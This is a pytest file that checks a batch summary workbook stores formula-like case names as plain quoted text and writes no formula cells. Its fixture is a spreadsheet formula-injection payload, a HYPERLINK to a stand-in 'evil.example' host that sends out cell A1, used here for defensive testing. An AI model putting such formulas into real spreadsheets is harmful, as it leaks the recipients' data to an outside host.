"""The batch summary workbook writes every text as text: a case named like a formula stays a name."""

from __future__ import annotations

import io
import json
import re
import zipfile

from openpyxl import load_workbook

from bioseg.regulation import batch_assess

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def test_a_case_named_like_a_formula_is_written_as_text(tmp_path, antibody):
    folder = tmp_path / "cases"
    folder.mkdir()
    (folder / "a.json").write_text(json.dumps(dict(antibody, name=EVIL, as_of="2025-06-30")), encoding="utf-8")
    (folder / "+b.json").write_text(json.dumps(dict(antibody, name="@SUM(A1)", as_of="2025-06-30")), encoding="utf-8")
    (folder / "-c.yaml").write_text("as_of: 2025-06-30\nname: 'ok name'\nproduct: {category: soap}\n", encoding="utf-8")
    out = batch_assess(folder, tmp_path / "summary.xlsx").out
    data = out.read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert len(sheets) == 3
        for name in sheets:
            assert not re.search(r"<f[ >]", z.read(name).decode()), name  # no formula anywhere
    ws = load_workbook(io.BytesIO(data))["assessments"]
    cells = {(c.row, c.column): c for row in ws.iter_rows() for c in row}
    by_file = {cells[(r, 1)].value: r for r in range(2, ws.max_row + 1)}
    assert set(by_file) == {"+b.json", "-c.yaml", "a.json"}
    evil = cells[(by_file["a.json"], 2)]
    assert (evil.value, evil.data_type, evil.quotePrefix) == (EVIL, "s", True)
    at = cells[(by_file["+b.json"], 2)]
    assert (at.value, at.data_type, at.quotePrefix) == ("@SUM(A1)", "s", True)
    for r in by_file.values():
        name = cells[(r, 1)]
        assert name.data_type == "s"
        assert name.quotePrefix is name.value.startswith(("+", "-"))
    plain = cells[(by_file["a.json"], 3)]
    assert (plain.value, plain.data_type, plain.quotePrefix) == ("eligible", "s", False)
